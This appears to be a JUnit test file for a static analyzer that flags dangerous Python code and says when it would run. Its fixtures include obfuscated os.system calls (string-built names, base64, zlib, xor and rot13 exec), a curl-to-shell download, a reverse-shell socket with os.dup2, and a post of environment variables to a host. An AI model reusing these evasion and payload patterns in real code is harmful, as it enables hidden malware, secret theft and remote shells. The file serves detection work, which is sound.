package dev.assay.inspect.source;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.foreign.MemorySegment;
import java.util.Base64;
import java.util.List;
import java.util.stream.Collectors;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;

@DisplayNameGeneration(ReplaceUnderscores.class)
class PythonSourceSpec {

    private static final String MARK = "echo assay-marker";

    @Test
    void what_stands_in_the_module_runs_at_import() {
        for (var source : new String[] {
            "import os\nos.system('M')\n",
            "import os; os.system('M')\n",
            "import os\nif True: os.system('M')\n",
            "import os\nif x:\n    pass\nelse:\n    os.system('M')\n",
            "import os\ntry:\n    import x\nexcept ImportError:\n    os.system('M')\n",
            "import os\nwith x as y:\n    os.system('M')\n",
            "import os\nfor i in x:\n    os.system('M')\n",
            "import os\nwhile x:\n    os.system('M')\n",
            "import os\nclass A:\n    os.system('M')\n",
            "import os\ndef f(x=os.system('M')): pass\n",
            "import os\ndef f(x: os.system('M')): pass\n",
            "import os\n@g(os.system('M'))\ndef f(): pass\n",
            "import os\nclass A(B, x=os.system('M')): pass\n",
            "import os\n[os.system('M') for x in y]\n",
            "import os\nx = f'{os.system('M')}'\n",
            "import os\nx[os.system('M')] = 1\n",
            "import os\nassert x, os.system('M')\n",
            "import os\ndel x[os.system('M')]\n",
            "import os\nprint >>f, os.system('M')\n",
            "import os\nx = `os.system('M')`\n",
            "import os\nmatch x:\n    case [a, b] if os.system('M'):\n        pass\n",
            "import os\nx = y if z else os.system('M')\n",
            "import os\nf(*[os.system('M')], **{'a': 1})\n",
            "import os\nx = (y := os.system('M'))\n",
            "import os\nx = 1 if 2 else 3, lambda: 4, not os.system('M')\n",
            "\timport os\n\tos.system('M')\n",
            "import os\n\fos.\\\nsystem('M')\n"
        }) {
            assertThat(said(source)).as(source).contains("at import: os.system('" + MARK + "')");
        }
    }

    @Test
    void what_stands_in_a_function_runs_when_that_is_called() {
        assertThat(said("import os\ndef f():\n    os.system('M')\n"))
                .containsExactly("when called: os.system('" + MARK + "')");
        assertThat(said("import os\ndef f():\n    os.system('M')\nf()\n"))
                .containsExactly("at import: os.system('" + MARK + "')");
        assertThat(said("import os\ndef f():\n    def g():\n        os.system('M')\n    return g\nf()()\n"))
                .containsExactly("at import: os.system('" + MARK + "')");
        assertThat(said("import os\nif __name__ == '__main__':\n    os.system('M')\n"))
                .containsExactly("as a script: os.system('" + MARK + "')");
        assertThat(said("import os\ndef f():\n    os.system('M')\nif '__main__' == __name__:\n    f()\n"))
                .containsExactly("as a script: os.system('" + MARK + "')");
        assertThat(said("import os, threading\ndef f():\n    os.system('M')\nthreading.Thread(target=f).start()\n"))
                .contains("at import: os.system('" + MARK + "')");
    }

    @Test
    void methods_that_nobody_calls_by_name_run_when_the_class_is_used() {
        for (var method :
                List.of("forward", "__reduce__", "__init__", "__call__", "from_pretrained", "_generate_examples")) {
            assertThat(said("import os\nclass A:\n    def " + method + "(self):\n        os.system('M')\n"))
                    .as(method)
                    .containsExactly("when used: os.system('" + MARK + "')");
        }
        assertThat(said("from setuptools.command.install import install\nimport os\n"
                        + "class A(install):\n    def run(self):\n        os.system('M')\n"))
                .containsExactly("when used: os.system('" + MARK + "')");
        assertThat(
                        said(
                                "import os\nclass M(type):\n    def __new__(a, *b):\n        os.system('M')\nclass A(metaclass=M): pass\n"))
                .containsExactly("at import: os.system('" + MARK + "')");
        assertThat(
                        said(
                                "import os\nclass A:\n    def __init_subclass__(c):\n        os.system('M')\nclass B(A): pass\n"))
                .containsExactly("at import: os.system('" + MARK + "')");
    }

    @Test
    void names_that_are_put_together_are_followed() {
        for (var source : new String[] {
            "__import__('o' + 's').system('M')\n",
            "import os\ngetattr(os, 'metsys'[::-1])('M')\n",
            "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('M')\n",
            "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('M')\n",
            "import os\ngetattr(os, f\"{'sys'}tem\")('M')\n",
            "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('M')\n",
            "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('M')\n",
            "import os\ns = ''\nfor c in [115, 121, 115, 116, 101, 109]:\n    s += chr(c)\ngetattr(os, s)('M')\n",
            "import os\ngetattr(os, 'sys_tem'.replace('_', ''))('M')\n",
            "import importlib\nimportlib.import_module('os').system('M')\n",
            "import sys\nsys.modules['o' + 's'].system('M')\n",
            "import os\nvars(os)['system']('M')\n",
            "import os\nos.__dict__['system']('M')\n",
            "import os\nglobals()['os'].system('M')\n",
            "import operator, os\noperator.attrgetter('system')(os)('M')\n",
            "import operator, os\noperator.methodcaller('system', 'M')(os)\n",
            "import functools, os\nfunctools.partial(os.system, 'M')()\n",
            "import os\n{'a': os.system}['a']('M')\n",
            "import os\n[os][0].system('M')\n",
            "import os\nf, g = 1, os.system\ng('M')\n",
            "import os\nf = lambda c: os.system(c)\nf('M')\n",
            "import os\ndef f(*, c='M'):\n    os.system(c)\nf()\n",
            "exec('import os; os.system(\"M\")')\n",
            "eval(compile('__import__(\"os\").system(\"M\")', '', 'exec'))\n",
            "exec 'import os; os.system(\"M\")'\n",
            "import pkgutil\npkgutil.resolve_name('os:system')('M')\n",
            "__builtins__.__import__('os').system('M')\n"
        }) {
            assertThat(said(source)).as(source).anyMatch(it -> it.startsWith("at import: os.system("));
        }
    }

    @Test
    void names_that_cannot_be_followed_are_not_let_through() {
        for (var source : new String[] {
            "import os\ngetattr(os, x)('M')\n",
            "__import__(x).run('M')\n",
            "import os\nvars(os)[x]('M')\n",
            "import sys\nsys.modules[x].system('M')\n",
            "import operator\noperator.attrgetter(x)(__import__('os'))('M')\n",
            "x().system('M')\n",
            "x.__subclasses__()\n",
            "f.__globals__[x]\n",
            "a = [1]\na[0] = x\na[0].popen('M')\n",
            "if False:\n    def exec(x): pass\nexec(x)\n",
            "import os\ndef f():\n    os.system('M')\nx.g = f\nos = None\n",
            "import math, os\nm = math\nfor i in x:\n    m.system('M')\n    m = os\n",
            "import os\nclass A:\n    def f(self):\n        self.m.execv('M', [])\n    def __init__(self):\n        self.m = os\n",
            "if x:\n    exec = print\nexec(y)\n",
            "import os\na = ['getcwd']\nb = a\nb[0] = 'system'\ngetattr(os, a[0])('M')\n"
        }) {
            assertThat(said(source)).as(source).isNotEmpty();
        }
    }

    @Test
    void text_that_is_decoded_and_executed_is_read_in_its_turn() throws IOException {
        var payload = "import os\nos.system('" + MARK + "')";
        var base64 = Base64.getEncoder().encodeToString(payload.getBytes(UTF_8));
        assertThat(said("import base64\nexec(base64.b64decode('" + base64 + "'))\n"))
                .anyMatch(it -> it.startsWith("at import, executing text decoded from base64: exec("))
                .contains("at import: os.system('" + MARK + "')");
        assertThat(said("def d(s):\n    import base64\n    return base64.b64decode(s)\nexec(d('" + base64 + "'))\n"))
                .anyMatch(it -> it.startsWith("at import, executing text decoded from base64: exec("));

        var packed = new ByteArrayOutputStream();
        try (var zlib = new DeflaterOutputStream(packed)) {
            zlib.write(payload.getBytes(UTF_8));
        }
        var twice = Base64.getEncoder().encodeToString(packed.toByteArray());
        assertThat(said("import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'" + twice + "')).decode())\n"))
                .anyMatch(it -> it.startsWith("at import, executing text decoded from base64 and zlib: exec("))
                .contains("at import: os.system('" + MARK + "')");

        var xored = payload.chars().mapToObj(it -> String.valueOf(it ^ 7)).collect(Collectors.joining(", "));
        assertThat(said("exec(''.join(chr(b ^ 7) for b in [" + xored + "]))\n"))
                .anyMatch(it -> it.startsWith("at import, executing text decoded from character codes: exec("))
                .contains("at import: os.system('" + MARK + "')");
        assertThat(said("import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"k\")', 'rot13'))\n"))
                .contains("at import: os.system(\"x\")");
        assertThat(said("import marshal\nexec(marshal.loads(b'x'))\n"))
                .anyMatch(it -> it.startsWith("at import, executing text decoded from marshal: exec("));
    }

    @Test
    void what_it_comes_to_is_said() {
        assertThat(said("import os\nos.system('curl http://127.0.0.1/x | sh')\n"))
                .containsExactly("at import, downloading into a shell: os.system('curl http://127.0.0.1/x | sh')");
        assertThat(said("import subprocess\nsubprocess.run(['bash', '-c', 'curl http://127.0.0.1/x | sh'])\n"))
                .anyMatch(it -> it.startsWith("at import, downloading into a shell: subprocess.run("));
        assertThat(said("import socket\nsocket.create_connection(('127.0.0.1', 4444))\n"))
                .anyMatch(it ->
                        it.startsWith("at import, opening a connection to 127.0.0.1:4444: socket.create_connection("));
        assertThat(
                        said(
                                "import socket, os\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\n"))
                .anyMatch(it -> it.startsWith("at import, opening a connection to 127.0.0.1:4444: "))
                .contains("at import, handing a shell to a connection: os.dup2(s.fileno(), 0)");
        assertThat(said("from urllib.request import urlopen\nexec(urlopen('http://127.0.0.1/x').read())\n"))
                .anyMatch(it -> it.startsWith("at import, executing what it downloads: exec("));
        assertThat(said("import requests, os\nrequests.post('http://127.0.0.1/x', json=dict(os.environ))\n"))
                .anyMatch(it -> it.startsWith("at import, sending away the environment: requests.post("));
    }

    @Test
    void every_statement_of_every_python_is_one() {
        var source = """
                #!/usr/bin/env python
                # -*- coding: utf-8 -*-
                from __future__ import annotations
                import a.b.c as d, e
                from . import f
                from ..g.h import (i as j, k,)
                from l import *
                type X[T: (int, str)] = list[T]
                @m.n(1)[2]
                async def o[**P](p, /, q: int = 1, *r, s=2, **t) -> dict[str, int]:
                    async with u as v, w(): await x
                    async for y in z: yield y
                    return [aa async for aa in bb if await cc]
                class A[T](B, metaclass=C, **D):
                    x: int = 1; y, *z = 1, 2
                    def f(self): return (yield), (yield from self)
                try: pass
                except* (E, F) as g: raise H from g
                else: ...
                finally: del a, b[1:2, ::3], c.d
                try: pass
                except E, e: print >>f, 'x' % y,
                with (open(a) as b, open(c) as (d, e)): pass
                with (a, b): pass
                match a, *b:
                    case {'x': [1, _, *z], **rest} | Point(x=0) if z: pass
                    case -1 | 'a' 'b' | None: pass
                match = case = 1
                match(a)[b] = lambda *c, d=1, **e: (c, d)
                for a, (b, *c) in d, e: continue
                else: pass
                while a: break
                global g
                assert a, b
                x = y = z @= 1 if False else 2
                x = 0xFFL + 0o17 + 0b1 + 017 + 1_000 + 1e-3j + .5 + 10l
                x = a if b else lambda: c if d else e
                x = not a in b is not c not in d <> e
                x = -a ** -b ** ~c // d << e & f ^ g | h
                x = rb'\\x' b"y" or u'z' or ur'q' and f'{a!r:>{b}} {{}} {c=} {d:%Y-%m-%d} {'e' 'f'}' rf'\\{g}'
                x = {**a, 'b': c, d: e}, {*a, b}, {a: b for a, b in c}, {a for a in b}, [*a, b], ()
                x = a[b:c, ..., ::d], a[:], a[b, c:], f(a for a in b), f(*a, b, **c, d=e), f(a := 1)
                x = `a, b`
                exec a in b, c
                print 'x'; print
                print(x, file=y)
                if (a := b) > c: pass
                elif d: pass
                else: pass
                async = await = 1
                raise E, 'x', tb
                def f((a, b), c): pass
                async_ = 1
                """.replace("x = y = z @= 1", "z @= 1").replace("async = await = 1\n", "");

        var reading = PythonSource.read(segment(source)).orElseThrow();

        assertThat(reading.unread()).isEmpty();
        assertThat(reading.acts()).extracting(Act::what).containsExactly("exec a in b, c");
    }

    @Test
    void prose_is_no_python() {
        for (var prose : List.of(
                "This is a sentence about import os.\n",
                "import os\nand then this line\n",
                "key: two words\n",
                "int main() { return 0; }\n",
                "const a = require('b');\n")) {
            assertThat(PythonSource.read(segment(prose)).filter(PythonSource.Reading::certain))
                    .as(prose)
                    .isEmpty();
        }
    }

    @Test
    void a_statement_that_none_knows_among_statements_of_python_is_not_passed_over() {
        var reading = PythonSource.read(segment("import os\nx = = 1\n")).orElseThrow();

        assertThat(reading.unread()).hasValue(14);
    }

    @Test
    void depth_and_length_without_end_cost_little() {
        for (var source : List.of(
                "x = " + "(".repeat(150) + "1" + ")".repeat(150) + "\n",
                "import a\nx = " + "-".repeat(5_000) + "1\n",
                "import a\nx = " + "lambda: ".repeat(5_000) + "1\n",
                "import a\nx = a" + ".b()".repeat(5_000) + "\n",
                "import a\nx = 1" + " + 1".repeat(200_000) + "\n",
                "import a\nx = [" + "1, ".repeat(400_000) + "]\n",
                "import a\nx = 'a'\n" + "x = x + x\n".repeat(200),
                "import a\n" + "def f():\n    f(); f(); f()\nf()\n",
                "import a\n" + "x = [x]\n".repeat(3_000),
                "import a\nif x: pass\n" + "elif x: pass\n".repeat(20_000),
                bomb())) {
            assertThat(PythonSource.read(segment(source))).isPresent();
        }
        var deep = PythonSource.read(segment("import a\nx = " + "not ".repeat(5_000) + "1\n"))
                .orElseThrow();
        assertThat(deep.unread()).isPresent();
    }

    /// Functions each of which calls the one before many times.
    private static String bomb() {
        var source = new StringBuilder("import a\ndef f0(x): return x\n");
        for (var i = 1; i < 60; i++) {
            source.append("def f")
                    .append(i)
                    .append("(x): return f")
                    .append(i - 1)
                    .append("(x) + f")
                    .append(i - 1)
                    .append("(x) + f")
                    .append(i - 1)
                    .append("(x)\n");
        }
        return source + "f59('x')\n";
    }

    private static List<String> said(String source) {
        return PythonSource.read(segment(source.replace("'M'", "'" + MARK + "'").replace("\"M\"", "\"" + MARK + "\"")))
                .orElseThrow()
                .acts()
                .stream()
                .map(Act::sentence)
                .toList();
    }

    private static MemorySegment segment(String source) {
        return MemorySegment.ofArray(source.getBytes(source.chars().allMatch(it -> it < 256) ? ISO_8859_1 : UTF_8));
    }
}
